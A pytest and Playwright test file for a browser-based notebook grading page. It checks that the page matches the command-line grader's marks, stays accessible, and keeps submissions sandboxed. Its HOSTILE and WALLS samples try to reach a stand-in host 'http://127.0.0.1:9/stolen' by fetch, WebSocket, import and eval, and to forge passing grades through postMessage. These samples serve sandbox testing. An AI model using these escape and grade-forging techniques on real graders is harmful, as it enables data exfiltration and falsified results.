"""The page that marks: the same marks as the command, nothing leaves the origin, and the page can be used all the while.

The command and its walls stand in tests/unit and tests/attacks; here the same notebooks go through both.
"""

import io
import json
import os
import re
import subprocess
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from filelock import FileLock
from playwright.sync_api import Locator, Page, expect
from run import ROOT

from browser.at_work import words
from browser.pages import LANGUAGES
from browser.serving import Server
from browser.test_axe import AXE, WCAG, told
from handing import exercise, handed, put
from installed import python_with
from komainu import component

EXERCISE, SEED = "i-dont-know", "abc"
CHECKS = ROOT / "notebooks" / EXERCISE / "checks.yml"
LIMIT_MS = 400_000
HOSTILE = """
import js
js.stolen = 0
def _try(what):
    try:
        what()
    except BaseException:
        pass
for _way in (
    lambda: js.fetch("http://127.0.0.1:9/stolen"), lambda: js.importScripts("http://127.0.0.1:9/stolen.js"),
    lambda: js.XMLHttpRequest.new().open("GET", "http://127.0.0.1:9/stolen", False), lambda: js.WebSocket.new("ws://127.0.0.1:9/stolen"),
    lambda: js.eval("fetch('http://127.0.0.1:9/stolen')"), lambda: js.indexedDB.open("stolen"), lambda: js.localStorage.setItem("a", "b"),
    lambda: js.eval("import('http://127.0.0.1:9/stolen.js')"),
):
    _try(_way)
_met = '{"said": "{\\\\"outputs\\\\": [], \\\\"error\\\\": null}", "seen": [{"value": "True", "met": true, "points": 99}]}'
for _ in range(300):
    _try(lambda: js.postMessage(_met))
    _try(lambda: js.postMessage("ready"))
print("all passed")
"""


def notebooks() -> dict[str, dict | bytes]:
    """Right, half, endless, hostile, broken."""
    return {
        "01_right.ipynb": handed(EXERCISE),
        "02_half.ipynb": handed(EXERCISE, "pupil", my_threshold="my_threshold = 0.75", break_even="def break_even(penalty):\n    return 1"),
        "03_loop.ipynb": handed(EXERCISE, overconfidence="while True:\n    try:\n        while True: pass\n    except BaseException: pass"),
        "04_hostile.ipynb": handed(EXERCISE, "pupil", my_threshold=HOSTILE),
        "05_broken.ipynb": b'{"cells": [',
    }  # fmt: skip


@pytest.fixture(scope="module")
def handed_in(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of notebooks."""
    return put(tmp_path_factory.mktemp("handed"), notebooks())


@pytest.fixture(scope="module")
def by_command(handed_in: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """What the command writes for them."""
    lock = ROOT / "build" / "cache" / "grader.lock"
    lock.parent.mkdir(parents=True, exist_ok=True)
    with FileLock(lock):
        component.build(ROOT)
    out = tmp_path_factory.mktemp("grades")
    done = subprocess.run(
        [python_with(tmp_path_factory.mktemp("installed"), "author", "grade"), "-m", "komainu", "grade", str(handed_in), "--exercise", EXERCISE, "--seed", SEED, "--out", str(out)],
        cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT / "src")}, capture_output=True, text=True, timeout=400, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stdout + done.stderr
    return {file.relative_to(out).as_posix(): file.read_bytes() for file in out.rglob("*") if file.is_file() and "kept" not in file.parts}


class Desk:
    """The teacher at the page."""

    def __init__(self, page: Page, server: Server, lang: str = "ja"):
        self.page, self.lang = page, lang
        page.goto(f"{server.url}{LANGUAGES[lang]}grade-here/")
        page.locator("#grading-exercise").select_option(EXERCISE)

    def do(self, name: str) -> Locator:
        """A button."""
        return self.page.locator(f"[data-do={name}]")

    def give(self, *files: Path, into: str = "files") -> None:
        """Choose files."""
        self.page.locator(f"input[data-for={into}]").set_input_files(list(files))

    def seed(self) -> None:
        """Enter the seed."""
        self.page.locator(".k-grading summary").click()
        self.page.locator("#grading-seed").fill(SEED)
        self.page.locator("#grading-seed").press("Tab")

    def says(self, name: str, timeout: int = LIMIT_MS) -> None:
        """Wait for a sentence of the page."""
        expect(self.page.locator(".k-grading > [role=status]")).to_have_text(words(f"grading_{name}", self.lang), timeout=timeout)

    def saved(self) -> dict[str, bytes]:
        """The files of the zip that the page gives."""
        with self.page.expect_download() as download:
            self.do("get").click()
        with zipfile.ZipFile(io.BytesIO(Path(download.value.path()).read_bytes())) as archive:
            return {name: archive.read(name) for name in archive.namelist()}


@pytest.fixture
def asked(page: Page) -> Iterator[list[str]]:
    """Every address that the page asked for."""
    found: list[str] = []
    page.context.on("request", lambda request: found.append(request.url))
    return found


def entries(files: dict[str, bytes]) -> dict[str, dict]:
    """The submissions of results.json by file."""
    return {one["file"]: one for one in json.loads(files["results.json"])["submissions"]}


def refused_only(trouble: list[str]) -> None:
    """What the frame refused is written in the console, and nothing else is."""
    assert [one for one in trouble if not re.search(r"Content Security Policy|127\.0\.0\.1:9/|Access to storage|opaque|sandboxed", one)] == []
    assert [one for one in trouble if one.startswith("request to another host")] == []
    trouble.clear()


def test_the_page_gives_the_same_marks_as_the_command(
    handed_in: Path, by_command: dict[str, bytes], server: Server, page: Page, asked: list[str], trouble: list[str]
) -> None:
    """Right, half, endless, hostile and broken: the same files but for those that cannot be the same, and nothing left the origin."""
    desk = Desk(page, server)
    desk.give(*sorted(handed_in.iterdir()))
    desk.give(CHECKS, into="hidden")
    desk.seed()
    desk.do("start").click()
    desk.says("running")
    expect(page.locator(".k-grading progress")).to_be_visible()
    slowest = page.evaluate("""async () => {
        let most = 0, last = performance.now();
        for (let n = 0; n < 100; n += 1) {
            await new Promise((done) => setTimeout(done, 20));
            most = Math.max(most, performance.now() - last);
            last = performance.now();
        }
        return most;
    }""")
    assert slowest < 1500
    desk.says("done")
    saved = desk.saved()
    assert set(saved) == set(by_command)
    mine, theirs = entries(saved), entries(by_command)
    assert [one["status"] for one in theirs.values()][-1] == "not-json"
    for name, one in theirs.items():
        assert (name, mine[name]["status"], mine[name]["points"]) == (name, one["status"], one["points"])
    assert mine == theirs
    assert {name for name in saved if saved[name] != by_command[name]} == set()
    assert mine["01_right.ipynb"]["points"] == mine["01_right.ipynb"]["of"]
    assert [url for url in asked if not url.startswith((server.origin, "blob:", "data:", "about:"))] == []
    refused_only(trouble)


@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_teacher_without_a_mouse_stops_and_goes_on(lang: str, server: Server, page: Page, tmp_path: Path) -> None:
    """By keyboard alone, in both languages; axe finds nothing at any stage; without the file of hidden checks only visible ones count."""
    desk = Desk(page, server, lang)
    expect(desk.do("start")).to_be_hidden()
    put(tmp_path, {f"{number}_a.ipynb": handed(EXERCISE, lang=lang, break_even=f"def break_even(penalty):\n    return {number}") for number in range(3)})
    desk.give(*sorted(tmp_path.iterdir()))
    desk.do("start").focus()
    page.keyboard.press("Enter")
    desk.says("running")
    expect(desk.do("stop")).to_be_focused()
    page.keyboard.press("Enter")
    desk.says("stopped")
    expect(desk.do("go-on")).to_be_focused()
    page.add_script_tag(path=AXE)
    assert [told(one) for one in page.evaluate("tags => axe.run({runOnly: tags})", list(WCAG))["violations"]] == []
    page.keyboard.press("Enter")
    desk.says("done_visible")
    expect(desk.do("get")).to_be_focused()
    expect(page.locator(".k-marks tbody tr")).to_have_count(3)
    assert [told(one) for one in page.evaluate("tags => axe.run({runOnly: tags})", list(WCAG))["violations"]] == []
    visible = sum(check.points for question in exercise(EXERCISE).questions for check in question.visible)
    assert {one["of"] for one in entries(desk.saved()).values()} == {visible}


def test_a_file_that_holds_other_checks_is_refused(server: Server, page: Page, tmp_path: Path) -> None:
    """The page says so in a sentence, and can be used again."""
    desk = Desk(page, server)
    desk.give(*put(tmp_path, {"1_a.ipynb": handed(EXERCISE)}).iterdir())
    desk.give(ROOT / "notebooks" / "capital-guesser" / "checks.yml", into="hidden")
    desk.do("start").click()
    desk.says("not_possible")
    expect(desk.do("start")).to_be_visible()
    expect(desk.do("files")).to_be_enabled()


DYING = b"""self.addEventListener("message", (event) => {
    if (event.data.call !== "read") return;
    event.stopImmediatePropagation();
    setTimeout(() => { throw new Error("gone"); });
});
"""


def test_python_that_dies_while_it_marks_is_told_and_started_anew(server: Server, page: Page, tmp_path: Path) -> None:
    """The page does not wait for ever; what was chosen is still there, and the same button marks it."""
    desk = Desk(page, server)
    desk.give(*put(tmp_path, {"1_a.ipynb": handed(EXERCISE)}).iterdir())
    page.route("**/marker.js", lambda route: route.fulfill(body=DYING + route.fetch().body(), content_type="text/javascript"), times=1)
    desk.do("start").click()
    desk.says("failed")
    desk.do("start").click()
    desk.says("done_visible")
    expect(page.locator(".k-marks tbody tr")).to_have_count(1)


def test_pupils_programs_have_the_whole_library(server: Server, page: Page, tmp_path: Path) -> None:
    """What an exercise page fetches when a program asks for it is in the frame from the start; it could fetch nothing."""
    desk = Desk(page, server)
    seldom = "import tomllib\nmy_threshold = tomllib.loads('a = 0.75')['a']"
    desk.give(*put(tmp_path, {"1_a.ipynb": handed(EXERCISE, "pupil", my_threshold=seldom)}).iterdir())
    desk.do("start").click()
    desk.says("done_visible")
    (entry,) = entries(desk.saved()).values()
    (asked,) = [question for question in entry["questions"] if question["id"] == "my-threshold"]
    assert (asked["error"], asked["checks"][0]["met"]) == ("", True)


WALLS = """
const out = "http://127.0.0.1:9/out";
const tries = {
    fetch: () => fetch(out), script: () => importScripts(out), module: () => import(out), eval: () => (0, eval)("1"),
    xhr: () => { const asked = new XMLHttpRequest(); asked.open("GET", out, false); asked.send(); },
    socket: () => new Promise((done, fail) => { const one = new WebSocket("ws://127.0.0.1:9/out"); one.onopen = done; one.onerror = fail; }),
    storage: () => localStorage.setItem("a", "b"), caches: () => caches.open("a"),
    database: () => new Promise((done, fail) => { const one = indexedDB.open("a"); one.onsuccess = done; one.onerror = fail; }),
};
(async () => {
    const through = [];
    for (const [name, way] of Object.entries(tries)) try { await way(); through.push(name); } catch {}
    postMessage(through);
})();
"""


def test_a_worker_of_the_frame_reaches_nothing(server: Server, page: Page, tmp_path: Path, asked: list[str], trouble: list[str]) -> None:
    """Whatever a program does there, even one that got out of Python: no network, no storage, no other script; and forged words are not heard."""
    desk = Desk(page, server)
    desk.give(*put(tmp_path, {"1_a.ipynb": handed(EXERCISE, "pupil")}).iterdir())
    desk.do("start").click()
    desk.says("done_visible")
    frame = page.frames[-1]
    assert frame.evaluate("origin") == "null"
    tried = "code => new Promise(done => { const one = new Worker(URL.createObjectURL(new Blob([code]))); one.onmessage = ({data}) => done(data); })"
    assert frame.evaluate(tried, WALLS) == []
    frame.evaluate("for (let n = 0; n < 20; n += 1) parent.postMessage({kind: 'line', run: n, text: '99'}, '*')")
    before = page.locator(".k-marks").inner_text()
    page.wait_for_timeout(300)
    assert page.locator(".k-marks").inner_text() == before
    assert [url for url in asked if url.startswith(("http:", "https:", "ws:")) and not url.startswith(server.origin) and ":9/" not in url] == []
    trouble.clear()


def test_the_site_holds_no_hidden_check(site: Path) -> None:
    """Whoever reads the site, file by file, does not find what is hidden."""
    found = {file.stem: file.read_text("utf-8") for file in (site / "grade-here").glob("*/*.json")}
    assert EXERCISE in found
    for ident, text in found.items():
        asked = json.loads(text)["about"]["asked"]
        assert [check for question in asked["questions"] for check in question["checks"] if check.get("hidden")] == []
        for question in exercise(ident).questions:
            assert [check.call for check in question.hidden if check.call and json.dumps(check.call["ja"], ensure_ascii=False) in text] == []
